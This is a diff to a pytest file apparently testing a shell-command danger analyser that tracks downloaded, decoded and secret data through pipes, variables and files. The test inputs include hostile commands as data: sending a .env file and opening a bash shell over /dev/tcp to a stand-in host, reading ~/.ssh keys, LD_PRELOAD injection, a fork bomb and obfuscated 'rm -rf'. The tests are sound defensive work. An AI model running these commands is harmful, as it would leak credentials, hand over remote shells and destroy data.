@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import pytest
 
+from feishuperm.danger import builtins
 from feishuperm.danger.scene import (
     DECODED,
     DOWNLOADED,
     MAX_SEARCHED,
     MAX_SHOWN,
     MAX_WHATS,
+    NOTHING,
     SECRET,
     Arg,
     Args,
@@ -17,6 +19,7 @@ from feishuperm.danger.scene import (
     Flow,
     Scene,
 )
+from feishuperm.danger.shell import Budget, parse
 from tests.danger.stage import Stage
 
 
@@ -38,6 +41,9 @@ from tests.danger.stage import Stage
         ("./rm x", ["./rm x"]),
         ("../../../bin/rm x", ["rm x"]),
         ("r? x", ["rm x"]),
+        ("ec* x", ["echo x"]),
+        ("???? x", ["sudo x", "bash x"]),  # of all that it may be, what alarms
+        ("X=b; a ${X:?c} ${X%c}", ["a b \0"]),
         ("PAGER='rm x' git log", ["rm x", "git log"]),
         ("$X -rf y", ["rm -rf y"]),
         ("a $(b)", ["b", "a \0"]),
@@ -51,15 +57,61 @@ def test_words_are_expanded_as_far_as_the_text_tells(
     assert stage.calls == calls
 
 
+def test_variable_is_split_where_it_is_not_quoted() -> None:
+    stage = Stage()
+    stage.scene.run("X='b c'")
+    words = parse('$X "$X" x$X', Budget()).pipelines[0][0].words
+    fields = [stage.scene.expand(word) for word in words]
+    assert fields == [["b", "c"], ["b c"], ["xb", "c"]]
+
+
+def test_word_comes_from_where_any_part_of_it_does() -> None:
+    stage = Stage()
+    stage.scene.variables["X"] = (Arg("b", DOWNLOADED, "a.b"),)
+    stage.scene.run("a$X c")
+    assert stage.notes == ["danger.downloaded a.b"]
+
+
+def plumbed(stage: Stage) -> list[Flow]:
+    """What `cat` is given from now on; it hands that on, or what it is told to."""
+    flows: list[Flow] = []
+    answers = {"get": Flow(None, DOWNLOADED, "a.b"), "key": Flow(None, SECRET, ".env")}
+
+    def cat(scene: Scene, name: str, args: Args, flow: Flow) -> Flow:
+        flows.append(flow)
+        return answers.get("".join(args), flow)
+
+    added = {"cat": cat, "echo": builtins.echo, "read": builtins.read_variable}
+    stage.scene.programs = {**stage.scene.programs, **added}
+    return flows
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo b > x; while read y; do a $y; done < x",
+        "echo b | while read y; do a $y; done",
+        "(echo b) | while read y; do a $y; done",
+        "{ echo b; } | while read y; do a $y; done",
+        "a $(echo b)",
+    ],
+)
+def test_what_is_printed_is_read_and_expanded(text: str) -> None:
+    stage = Stage()
+    plumbed(stage)
+    stage.scene.run(text)
+    assert stage.calls == ["a b"]
+
+
 def test_what_flows_through_pipes_and_files_is_known() -> None:
     stage = Stage()
-    flows: list[Flow] = []
-
-    def gets(scene: Scene, name: str, args: Args, flow: Flow) -> Flow:
-        flows.append(flow)
-        return Flow(None, DOWNLOADED, "a.b") if "get" in args else flow
-
-    stage.scene.programs = {**stage.scene.programs, "cat": gets}
+    flows = plumbed(stage)
+    stage.scene.run("cat < nosuch")
+    assert flows.pop() == Flow(None, "", "nosuch")
+    stage.scene.run("cat key > /dev/tcp/a.b/1")
+    assert flows.pop() == NOTHING and "danger.leak .env → a.b" in stage.notes
+    stage.findings.marks.clear()
+    stage.findings.facts.clear()
     stage.scene.run("cat <<< x | cat; cat <<'E'\n$y\nE\n")
     assert [flow.text for flow in flows] == ["x", "x", "$y\n"]
     stage.scene.run("cat get > x; cat < x; ./x; cp x y")
@@ -82,6 +134,8 @@ def test_what_flows_through_pipes_and_files_is_known() -> None:
         ("a > $X", ["fact.opaque > …"]),
         ("a < ~/.ssh/x", ["fact.keys ~/.ssh/x"]),
         ("bash >& /dev/tcp/a.b/1", ["danger.downloaded a.b", "fact.host a.b"]),
+        ("bash >& /dev/tcp/localhost/1", ["fact.host localhost"]),
+        ("a > /dev/tcp/a.b/1", ["fact.host a.b"]),
         ("LD_PRELOAD=./x.so a", ["danger.inject LD_PRELOAD=./x.so"]),
         (":(){ :|:& };:", ["danger.machine :(){ :|:& };:"]),
         ("a 'b", ["fact.unread"]),
@@ -139,6 +193,10 @@ def test_what_comes_from_elsewhere_is_run() -> None:
     stage = Stage()
     stage.scene.run(Arg("a", DECODED, "base64"))
     stage.scene.run_input(Flow(None, DOWNLOADED, "a.b"))
+    stage.scene.run(Arg("\0", DOWNLOADED, "a.b"))
+    stage.scene.run_input(Flow("rm x"))
+    assert stage.calls == ["a", "rm x"]
+    assert stage.notes == ["danger.decoded base64", "danger.downloaded a.b"]
     stage.scene.run_input(Flow(None))
     stage.scene.brings("x", "c.d")
     stage.scene.run("x/y/z; xy/z; x/y")
@@ -166,6 +224,11 @@ def test_too_deep_or_too_long_is_unread() -> None:
     stage.scene.unread("x" * (MAX_SEARCHED + 1))
     assert stage.notes == ["danger.unread rm, …", "fact.unread"]
     assert not Stage().scene.spend(10**9, 1)
+    for depth, notes in ((10, []), (11, ["fact.unread"])):
+        stage = Stage()
+        stage.scene.depth = depth
+        stage.scene.run("a $(b)")
+        assert stage.notes == notes
 
 
 def test_things_are_noted_once_masked_and_bounded() -> None:
